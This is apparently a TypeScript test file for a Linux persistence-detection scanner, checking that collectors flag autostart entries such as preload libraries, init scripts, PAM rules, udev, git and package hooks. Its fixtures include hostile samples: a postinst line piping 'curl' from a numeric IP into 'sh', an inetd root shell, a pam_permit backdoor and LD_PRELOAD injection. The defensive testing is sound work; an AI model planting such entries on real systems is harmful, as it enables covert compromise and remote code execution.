import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Ownership } from '../../model/index.ts'
import type { MemoryFile } from '../../target/index.ts'
import { autostartCollectors } from './autostarts.ts'
import { started, surveyOf } from './survey-of.ts'

interface Case {
  readonly files: Readonly<Record<string, string | MemoryFile>>
  readonly owned?: Readonly<Record<string, Ownership>>
  readonly finds: readonly string[]
}

const run = { mode: 0o755 }
const elf = (text: string): string => `\x7fELF\0${text}\0/etc/ld.so.cache\0`

const cases: Readonly<Record<string, readonly Case[]>> = {
  preload: [
    {
      files: { '/etc/ld.so.preload': '# mine\n/lib/a.so:/lib/b.so\n\n /etc/libsystem.so # x\n' },
      finds: [
        'preload /etc/ld.so.preload:2 ld.so.preload /lib/a.so',
        'preload /etc/ld.so.preload:2 ld.so.preload /lib/b.so',
        'preload /etc/ld.so.preload:4 ld.so.preload /etc/libsystem.so',
      ],
    },
    { files: { '/lib64/ld-linux-x86-64.so.2': elf('/etc/ld.so.preload') }, finds: [] },
    {
      files: { '/lib64/ld-linux-x86-64.so.2': elf('/lib/.x.so.preload'), '/lib/.x.so.preload': '/lib/h.so\n' },
      finds: ['setting loader-preload-path=/lib/.x.so.preload', 'preload /lib/.x.so.preload:1 ld.so.preload /lib/h.so'],
    },
    {
      files: { '/etc/ld.so.conf.d/libc.conf': '/usr/local/lib\n', '/etc/ld.so.conf.d/z.conf': '/dev/shm/.l\n' },
      owned: { '/etc/ld.so.conf.d/libc.conf': 'owned' },
      finds: ['linker-path /etc/ld.so.conf.d/z.conf:1  -> /dev/shm/.l'],
    },
  ],
  'sysv-init': [
    {
      files: {
        '/etc/init.d/qwertyuiop': { content: '#!/bin/sh\ncase $1 in\nstart)\n/usr/bin/qwertyuiop\n;;\nesac\n', ...run },
        '/usr/bin/qwertyuiop': 'x',
        '/etc/rc3.d/S90qwertyuiop': { link: '../init.d/qwertyuiop' },
      },
      finds: ['init-d /etc/init.d/qwertyuiop /etc/init.d/qwertyuiop -> /etc/init.d/qwertyuiop /usr/bin/qwertyuiop'],
    },
    {
      files: { '/etc/rc2.d/S99x': { link: '/tmp/.x' }, '/tmp/.x': { content: '', ...run } },
      finds: ['init-d /etc/rc2.d/S99x /etc/rc2.d/S99x -> /etc/rc2.d/S99x /tmp/.x'],
    },
  ],
  'rc-local': [
    {
      files: { '/etc/rc.local': { content: '#!/bin/sh -e\n# c\nnohup /opt/a &\nexit 0\n', ...run } },
      finds: ['rc-local /etc/rc.local:3 nohup /opt/a & -> /opt/a'],
    },
  ],
  inittab: [
    {
      files: { '/etc/inittab': 'id:3:initdefault:\nx1:2345:respawn:/bin/.x -d\n#a:1:once:/b\n' },
      finds: ['inittab /etc/inittab:2 /bin/.x -d -> /bin/.x'],
    },
  ],
  upstart: [
    {
      files: { '/etc/init/a.conf': 'start on runlevel [2345]\nrespawn\nscript\n  # c\n  /opt/a\nend script\n' },
      finds: ['upstart /etc/init/a.conf:5 /opt/a -> /opt/a'],
    },
  ],
  runit: [
    {
      files: {
        '/etc/sv/a/run': { content: '#!/bin/sh\nexec /opt/a\n', ...run },
        '/opt/a': '',
        '/etc/service/a': { link: '/etc/sv/a' },
      },
      finds: ['runit /etc/sv/a/run /etc/sv/a/run -> /etc/sv/a/run /opt/a'],
    },
  ],
  supervisor: [
    {
      files: {
        '/etc/supervisord.conf': '[include]\nfiles = d/*.ini\n',
        '/etc/d/x.ini': '[program:x]\ncommand=/opt/x -c\n  y\nenvironment=LD_PRELOAD="/lib/z.so"\n',
      },
      finds: ['supervisor /etc/d/x.ini:2 /opt/x -c\\x0ay -> /opt/x', 'preload /etc/d/x.ini:4 LD_PRELOAD /lib/z.so'],
    },
  ],
  monit: [
    {
      files: { '/etc/monitrc': 'check process a with pidfile /a\n start program = "/opt/a start"\n' },
      finds: ['monit /etc/monitrc:2 /opt/a start -> /opt/a'],
    },
  ],
  pm2: [
    {
      files: { '/root/.pm2/dump.pm2': '[{"name":"a","pm_exec_path":"/root/.x/a.js","exec_interpreter":"node"}]' },
      finds: ['pm2 /root/.pm2/dump.pm2 node /root/.x/a.js -> /root/.x/a.js'],
    },
  ],
  xinetd: [
    {
      files: {
        '/etc/xinetd.d/a': 'service a\n{\n  server = /opt/a\n  disable = yes\n}\n',
        '/etc/inetd.conf': 'x stream tcp nowait root /bin/sh sh -i\n',
      },
      finds: ['xinetd /etc/xinetd.d/a:3 [off] /opt/a -> /opt/a', 'xinetd /etc/inetd.conf:1 /bin/sh -i -> /bin/sh'],
    },
  ],
  environment: [
    {
      files: {
        '/etc/environment': 'PATH="/usr/local/sbin:/usr/bin"\nLD_PRELOAD=/lib/x.so\n',
        '/etc/default/a': 'export BASH_ENV=/tmp/b\nX=1\n',
        '/root/.ssh/environment': 'PATH=/root/.local/bin:/usr/bin\n',
        '/etc/security/pam_env.conf': 'LD_PRELOAD DEFAULT=/lib/y.so\n',
      },
      finds: [
        'environment /etc/default/a:1  -> /tmp/b',
        'preload /etc/environment:2 LD_PRELOAD /lib/x.so',
        'preload /etc/security/pam_env.conf:1 LD_PRELOAD /lib/y.so',
        'environment /root/.ssh/environment:1 ',
      ],
    },
  ],
  'kernel-start': [
    {
      files: {
        '/etc/modules-load.d/a.conf': 'rk\n',
        '/etc/modprobe.d/a.conf': 'install tcp /tmp/m\ninstall usb /bin/true\n',
        '/proc/sys/kernel/core_pattern': '|/tmp/c %p\n',
        '/etc/sysctl.d/a.conf': 'kernel.core_pattern = core\n',
        '/etc/binfmt.d/a.conf': ':a:E::x::/tmp/i:\n',
      },
      finds: [
        'modules-load /etc/modules-load.d/a.conf:1 modprobe rk',
        'modprobe /etc/modprobe.d/a.conf:1 /tmp/m -> /tmp/m',
        'binfmt /etc/binfmt.d/a.conf:1 /tmp/i -> /tmp/i',
        'core-pattern /proc/sys/kernel/core_pattern /tmp/c %p -> /tmp/c',
      ],
    },
  ],
  udev: [
    {
      files: {
        '/etc/udev/rules.d/9.rules': 'ACTION=="add", \\\n RUN+="/bin/sh -c \'/opt/u\'"\n',
        '/usr/lib/udev/rules.d/a.rules': 'RUN+="/x"',
      },
      owned: { '/usr/lib/udev/rules.d/a.rules': 'owned' },
      finds: ["udev /etc/udev/rules.d/9.rules:1 /bin/sh -c '/opt/u' -> /bin/sh /opt/u"],
    },
  ],
  motd: [
    {
      files: { '/etc/update-motd.d/99-x': { content: '#!/bin/sh\n/dev/shm/a\n', ...run } },
      finds: ['motd /etc/update-motd.d/99-x /etc/update-motd.d/99-x -> /etc/update-motd.d/99-x /dev/shm/a'],
    },
  ],
  xdg: [
    {
      files: { '/root/.config/autostart/a.desktop': '[Desktop Entry]\nExec=/opt/a\nHidden=true\n' },
      finds: ['xdg-autostart /root/.config/autostart/a.desktop:2 [off] /opt/a -> /opt/a'],
    },
  ],
  'event-hooks': [
    {
      files: {
        '/etc/network/interfaces': 'iface eth0 inet dhcp\n  up /opt/n\n',
        '/etc/logrotate.d/a': '/var/log/a {\n  postrotate\n    /opt/l\n  endscript\n}\n',
        '/etc/logrotate.d/a.dpkg-old': '/var/log/a {\n  postrotate\n    /opt/l\n  endscript\n}\n',
        '/etc/NetworkManager/dispatcher.d/9': { content: '#!/bin/sh\n', ...run },
      },
      finds: [
        'network-manager /etc/NetworkManager/dispatcher.d/9 /etc/NetworkManager/dispatcher.d/9 -> /etc/NetworkManager/dispatcher.d/9',
        'ifupdown /etc/network/interfaces:2 /opt/n -> /opt/n',
        'logrotate /etc/logrotate.d/a:3 /opt/l -> /opt/l',
      ],
    },
  ],
  'package-hooks': [
    {
      files: {
        '/etc/apt/apt.conf.d/9':
          '// c\nAPT::Update::Pre-Invoke {"/opt/p";};\nDPkg { Post-Invoke { "a"; }; };\nAPT::X "y";\n',
        '/var/lib/dpkg/info/a.postinst': 'set -e\ncurl -s http://198.51.100.7/x | sh\n',
        '/var/lib/dpkg/info/b.postinst': 'update-x --id "http://example.org/"\n',
      },
      finds: [
        'apt-hook /etc/apt/apt.conf.d/9:2 /opt/p -> /opt/p',
        'apt-hook /etc/apt/apt.conf.d/9:3 a',
        'package-script /var/lib/dpkg/info/a.postinst:2 curl -s http://198.51.100.7/x | sh',
      ],
    },
  ],
  'language-start': [
    {
      files: {
        '/usr/lib/python3/dist-packages/a.pth': '/opt/lib\nimport os; os.system("/opt/p")\n',
        '/etc/php.ini': 'auto_prepend_file = "/tmp/p.php"\n',
      },
      finds: [
        'python-start /usr/lib/python3/dist-packages/a.pth:2 import os; os.system("/opt/p") -> /opt/p',
        'web-start /etc/php.ini:1 /tmp/p.php -> /tmp/p.php',
      ],
    },
  ],
  'git-hooks': [
    {
      files: {
        '/srv/a/b/.git/hooks/post-merge': { content: '#!/bin/sh\n', ...run },
        '/srv/a/b/.git/hooks/x.sample': '',
        '/srv/a/b/.git/config': '[core]\n\tfsmonitor = "/tmp/f x"\n\tpager = less\n',
      },
      finds: [
        'git-hook /srv/a/b/.git/hooks/post-merge /srv/a/b/.git/hooks/post-merge -> /srv/a/b/.git/hooks/post-merge',
        'git-hook /srv/a/b/.git/config:2 /tmp/f x -> /tmp/f',
      ],
    },
  ],
  pam: [
    {
      files: {
        '/etc/pam.d/sshd':
          'auth sufficient pam_permit.so\nauth required pam_unix.so\n-auth optional pam_gone.so\nsession optional pam_exec.so quiet /opt/e\nauth sufficient pam_bad.so\n',
        '/lib/security/pam_permit.so': '',
        '/lib/security/pam_unix.so': '',
        '/lib/security/pam_exec.so': '',
        '/lib/security/pam_bad.so': '',
      },
      owned: {
        '/lib/security/pam_permit.so': 'owned',
        '/lib/security/pam_unix.so': 'modified',
        '/lib/security/pam_exec.so': 'owned',
      },
      finds: [
        'pam /etc/pam.d/sshd:1 /lib/security/pam_permit.so',
        'pam /etc/pam.d/sshd:2 /lib/security/pam_unix.so -> /lib/security/pam_unix.so',
        'pam /etc/pam.d/sshd:4 /opt/e -> /opt/e',
        'pam /etc/pam.d/sshd:5 /lib/security/pam_bad.so -> /lib/security/pam_bad.so',
      ],
    },
  ],
  sshd: [
    {
      files: {
        '/etc/ssh/sshd_config':
          'Include sshd_config.d/*.conf\nSubsystem sftp /usr/lib/openssh/sftp-server\nForceCommand /opt/f\n',
        '/etc/ssh/sshd_config.d/a.conf': 'AuthorizedKeysFile .ssh/authorized_keys /etc/k\n',
        '/root/.ssh/rc': '/opt/r\n',
        '/root/.ssh/config': 'Host *\n ProxyCommand /opt/p %h\n',
      },
      finds: [
        'sshd /etc/ssh/sshd_config.d/a.conf:1  -> /etc/k',
        'sshd /etc/ssh/sshd_config:3 /opt/f -> /opt/f',
        'ssh-rc /root/.ssh/rc:1 /opt/r -> /opt/r',
        'ssh-config /root/.ssh/config:2 /opt/p %h -> /opt/p',
      ],
    },
  ],
  containers: [
    {
      files: {
        '/var/lib/docker/containers/ab/config.v2.json':
          '{"ID":"ab","Name":"/m","Path":"/x","Args":["-o","y"],"Config":{"Image":"i"},"State":{"Running":true,"Pid":7}}',
        '/var/lib/docker/containers/ab/hostconfig.json': '{"RestartPolicy":{"Name":"always"},"Privileged":true}',
      },
      finds: ['container docker m i /x -o y', 'container /var/lib/docker/containers/ab/config.v2.json /x -o y'],
    },
    {
      files: {
        '/run/containerd/io.containerd.runtime.v2.task/default/c1/config.json':
          '{"process":{"args":["/x"]},"linux":{"namespaces":[{"type":"pid"}]}}',
      },
      finds: ['container containerd c1  /x'],
    },
  ],
  quadlets: [
    {
      files: {
        '/etc/containers/systemd/a.container': '[Container]\nImage=i\nExec=/x\n[Install]\nWantedBy=default.target\n',
      },
      finds: ['quadlet /etc/containers/systemd/a.container:3 /x'],
    },
  ],
  'static-pods': [
    {
      files: {
        '/etc/kubernetes/manifests/a.yaml':
          'kind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - {name: c, image: i, command: [/x, -y]}\n',
      },
      finds: ['static-pod /etc/kubernetes/manifests/a.yaml /x -y'],
    },
  ],
  'exposed-services': [
    {
      files: {
        '/etc/docker/daemon.json': '{"hosts":["tcp://0.0.0.0:2375","fd://"]}',
        '/etc/redis/redis.conf': 'bind 0.0.0.0\nprotected-mode no\nrequirepass geheim\n',
      },
      finds: [
        'setting docker.hosts=tcp://0.0.0.0:2375',
        'setting redis.bind=0.0.0.0',
        'setting redis.protected-mode=no',
        'setting redis.requirepass=set',
        'setting redis.port=6379',
      ],
    },
  ],
}

for (const collector of autostartCollectors) {
  for (const [index, { files, owned, finds }] of (cases[collector.name] ?? []).entries()) {
    test(`${collector.name} ${index + 1}`, async () => {
      const home = { '/etc/passwd': 'root:x:0:0::/root:/bin/bash\n', '/root/.hushlogin': '' }
      assert.deepEqual(await started(collector, surveyOf({ ...home, ...files }, { ownership: owned ?? {} })), finds)
    })
  }
}
